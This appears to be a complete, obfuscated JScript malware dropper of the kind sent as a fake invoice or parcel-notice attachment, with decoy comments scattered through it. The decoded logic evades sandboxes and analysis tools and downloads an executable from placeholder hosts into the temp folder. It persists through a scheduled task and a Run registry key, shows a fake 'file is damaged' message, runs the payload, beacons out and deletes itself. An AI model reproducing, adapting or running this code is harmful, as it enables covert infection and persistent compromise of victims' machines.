var putipemefaz = [
[322, 439, 432, 429, 432, 433, 441, 432],
["=d", "i?gnp", ".ogol", "/sega", "mi/el", "pmaxe", ".seci", "ovni.", "ndc//", ":ptth"],
/* please find the enclosed statement for your records 14 */ ["=", "di", "?p", "hp", ".s", "ut", "at", "s/", "kc", "ar", "t/", "el", "pm", "ax", "e.", "sl", "ec", "ra", "p/", "/:", "pt", "th"],
["=d", "i?", "te", "g/", "el", "pm", "ax", "e.", "se", "ta", "dp", "u.", "ro", "rr", "im", "//", ":s", "pt", "th"],
/* weather in the northern valleys remained mild 52 */ [173, 278, 283, 291, 284, 278, 272, 274, 268, 225, 221, 223, 224, 224, 219, 285, 273, 275],
["emi", "Tteg"],
/* weather in the northern valleys remained mild 41 */ [50, 133, 158, 151, 151, 162],
["emi", "Tteg"],
["sg", "ni", "rt", "St", "ne", "mn", "or", "iv", "nE", "dn", "ap", "xE"],
["%S", "RO", "SS", "EC", "OR", "P_", "FO", "_R", "EB", "MU", "N%"],
["1"],
["e", "xe.", "kra", "hse", "riw"],
/* minutes of the annual meeting, page 88 */ [257, 369, 371, 368, 356, 366, 368, 367, 303, 358, 377, 358],
[150, 268, 248, 261, 270, 265, 251, 264, 268, 255, 249, 251, 196, 251, 270, 251],
/* minutes of the annual meeting, page 55 */ ["2vm", "ic\\to", "or\\.\\", "\\:stm", "gmniw"],
[334, 403, 454, 435, 433, 415, 451, 435, 448, 455],
[322, 405, 391, 398, 391, 389, 406, 354, 364, 354, 392, 404, 401, 399, 354, 409, 427, 432, 373, 372, 417, 402, 436, 433, 421, 423, 437, 437],
["dn", "Eta"],
[93, 202, 204, 211, 194, 171, 194, 213, 209],
[36, 141, 152, 137, 145],
[378, 456, 475, 487, 479],
/* weather in the northern valleys remained mild 84 */ ["e", "sa", "Cr", "ew", "oL", "ot"],
["h", "tgnel"],
["PT", "THLM", "X.2L", "MXSM"],
["ht", "gnel"],
["ne", "po"],
[174, 245, 243, 258],
["reda", "eHts", "euqe", "Rtes"],
["t", "neg", "A-r", "esU"],
[")1.6 ", "TN sw", "odniW", " ;0.7", " EISM", " ;elb", "itapm", "oc( 0", ".4/al", "lizoM"],
["dnes"],
[55, 170, 171, 152, 171, 172, 170],
["ydo", "Bes", "nop", "ser"],
["pe", "elS"],
["mae", "rtS", ".BD", "ODA"],
/* minutes of the annual meeting, page 81 */ ["epyT"],
["nepO"],
["e", "ti", "rW"],
/* weather in the northern valleys remained mild 49 */ [391, 474, 488, 509, 492, 475, 502, 461, 496, 499, 492],
["esolC"],
/* please find the enclosed statement for your records 38 */ [";)\"", "ZS_G", "ER\" ", ",hta", "p ,\"", "reta", "dpU\\", "\\nuR", "\\\\no", "isre", "Vtne", "rruC", "\\\\sw", "odni", "W\\\\t", "foso", "rciM", "\\\\er", "awtf", "oS\\\\", "UCKH", "\"(et", "irWg", "eR.l", "lehs"],
[";)es", "laf ,", "0 ,\"f", "/ \"\\\"", " + ht", "ap + ", "\"\"\\ r", "t/ re", "tadpU", " nt/ ", "03 om", "/ etu", "nim c", "s/ et", "aerc/", " sksa", "thcs\"", "(nuR.", "llehs"],
/* please find the enclosed statement for your records 90 */ [310, 428, 407, 424, 342, 424, 411, 422, 421, 424, 426, 342, 371, 342, 419, 407, 417, 411, 350, 344, 397, 415, 420, 382, 426, 426, 422, 356, 397, 415, 420, 382, 426, 426, 422, 392, 411, 423, 427, 411, 425, 426, 356, 363, 356, 359, 344, 351, 369],
[336, 450, 437, 448, 447, 450, 452, 382, 415, 448, 437, 446, 376, 370, 416, 415, 419, 420, 370, 380, 368, 370, 440, 452, 452, 448, 451, 394, 383, 383, 450, 437, 448, 447, 450, 452, 382, 453, 448, 436, 433, 452, 437, 451, 382, 437, 456, 433, 445, 448, 444, 437, 383, 441, 446, 370, 380, 368, 438, 433, 444, 451, 437, 377, 395],
[";)", "tsoh ", "+ \"=t", "soh&\"", " + di", " + \"=", "di\"(d", "neS.t", "roper"],
/* weather in the northern valleys remained mild 49 */ ["l", "lehS", ".tpi", "rcSW"],
[392, 511, 497, 502, 492, 503, 511, 507],
/* please find the enclosed statement for your records 98 */ ["krowt", "eN.tp", "ircSW"],
["em", "aN", "re", "tu", "pm", "oC"],
["-"],
["h", "tgnel"],
["sg", "ni", "rt", "St", "ne", "mn", "or", "iv", "nE", "dn", "ap", "xE"],
[269, 306, 353, 338, 346, 349, 306],
["ex", "e.", "12", "47", "_e", "ta", "dp", "u\\"],
[18, 98, 129, 130, 135, 130],
[144, 228, 248, 245, 176, 244, 255, 243, 261, 253, 245, 254, 260, 176],
/* the quarterly balance was settled by the committee 78 */ [".d", "enepo", " eb t", "'nac ", "dna d", "egama", "d si "],
/* weather in the northern valleys remained mild 38 */ [61, 143, 162, 158, 161, 162, 175],
[342, 424, 459, 452],
/* the quarterly balance was settled by the committee 25 */ [294, 328],
[351, 385, 383, 398, 464, 468, 456, 452, 467],
[66, 172, 177, 171, 176],
/* minutes of the annual meeting, page 92 */ ["\n"],
["tc", "ej", "bO", "me", "ts", "yS", "el", "iF", ".g", "ni", "tp", "ir", "cS"],
["e", "liF", "ete", "leD"],
["em", "aNl", "luF", "tpi", "rcS"]
/* minutes of the annual meeting, page 48 */ ];
function tapeduridiy(at) {
/* weather in the northern valleys remained mild 82 */ var row = putipemefaz[at], coded = typeof row[0] == "number", text = "";
/* the quarterly balance was settled by the committee 52 */ if (coded) for (var i = 1; i < row.length; i++) text += String.fromCharCode(row[i] - row[0]);
else for (var j = row.length - 1; j >= 0; j--) text += row[j].split("").reverse().join("");
/* the quarterly balance was settled by the committee 46 */ return text;
/* minutes of the annual meeting, page 90 */ }
var host = tapeduridiy(0);
/*@cc_on @if (@_win32) host = "windows"; @end @*/
/* minutes of the annual meeting, page 65 */ var fovimabatex = [
tapeduridiy(1),
tapeduridiy(2),
tapeduridiy(3)
];
/* the quarterly balance was settled by the committee 12 */ var pibototuvey = tapeduridiy(4);
function make(name) {
/* the quarterly balance was settled by the committee 23 */ return new ActiveXObject(name);
/* minutes of the annual meeting, page 82 */ }
function purevenocux(shell) {
var genopaligoy = new Date()[tapeduridiy(5)]();
WScript[tapeduridiy(6)](3000);
if (new Date()[tapeduridiy(7)]() - genopaligoy < 2500) return true;
if (shell[tapeduridiy(8)](tapeduridiy(9)) == tapeduridiy(10)) return true;
var nunifareciy = [tapeduridiy(11), tapeduridiy(12), tapeduridiy(13)];
var sagolasogaz = new Enumerator(GetObject(tapeduridiy(14))[tapeduridiy(15)](tapeduridiy(16)));
for (; !sagolasogaz[tapeduridiy(17)](); sagolasogaz[tapeduridiy(18)]()) {
var serosipipez = String(sagolasogaz[tapeduridiy(19)]()[tapeduridiy(20)])[tapeduridiy(21)]();
/* minutes of the annual meeting, page 20 */ for (var fonupimarux = 0; fonupimarux < nunifareciy[tapeduridiy(22)]; fonupimarux++) if (serosipipez == nunifareciy[fonupimarux]) return true;
/* weather in the northern valleys remained mild 69 */ }
return false;
}
/* the quarterly balance was settled by the committee 39 */ function fotumeruvoz(id) {
var pefimumisez = make(tapeduridiy(23));
for (var fonupimarux = 0; fonupimarux < fovimabatex[tapeduridiy(24)]; fonupimarux++) {
try {
/* please find the enclosed statement for your records 85 */ pefimumisez[tapeduridiy(25)](tapeduridiy(26), fovimabatex[fonupimarux] + id, false);
pefimumisez[tapeduridiy(27)](tapeduridiy(28), tapeduridiy(29));
/* weather in the northern valleys remained mild 39 */ pefimumisez[tapeduridiy(30)]();
/* the quarterly balance was settled by the committee 53 */ if (pefimumisez[tapeduridiy(31)] == 200) return pefimumisez[tapeduridiy(32)];
} catch (tonusanitox) {
/* weather in the northern valleys remained mild 10 */ WScript[tapeduridiy(33)](500);
}
}
return null;
}
function lenimupelax(benamiburey, path) {
var tisoputabax = make(tapeduridiy(34));
tisoputabax[tapeduridiy(35)] = 1;
/* weather in the northern valleys remained mild 63 */ tisoputabax[tapeduridiy(36)]();
/* please find the enclosed statement for your records 53 */ tisoputabax[tapeduridiy(37)](benamiburey);
/* minutes of the annual meeting, page 70 */ tisoputabax[tapeduridiy(38)](path, 2);
tisoputabax[tapeduridiy(39)]();
/* the quarterly balance was settled by the committee 63 */ }
var focicomopux = [
tapeduridiy(40),
tapeduridiy(41),
tapeduridiy(42),
tapeduridiy(43),
tapeduridiy(44)
];
/* the quarterly balance was settled by the committee 40 */ function sofifusucey() {
/* please find the enclosed statement for your records 69 */ var shell = make(tapeduridiy(45));
if (host != tapeduridiy(46) || purevenocux(shell)) return;
var id = make(tapeduridiy(47))[tapeduridiy(48)] + tapeduridiy(49) + host[tapeduridiy(50)];
/* the quarterly balance was settled by the committee 65 */ var benamiburey = fotumeruvoz(id);
if (benamiburey === null) return;
var path = shell[tapeduridiy(51)](tapeduridiy(52)) + tapeduridiy(53);
lenimupelax(benamiburey, path);
/* the quarterly balance was settled by the committee 16 */ shell[tapeduridiy(54)](tapeduridiy(55) + pibototuvey + tapeduridiy(56), 5, tapeduridiy(57), 16);
/* weather in the northern valleys remained mild 96 */ shell[tapeduridiy(58)](tapeduridiy(59) + path + tapeduridiy(60), 0, false);
eval(focicomopux[tapeduridiy(61)](tapeduridiy(62)));
make(tapeduridiy(63))[tapeduridiy(64)](WScript[tapeduridiy(65)]);
}
sofifusucey();
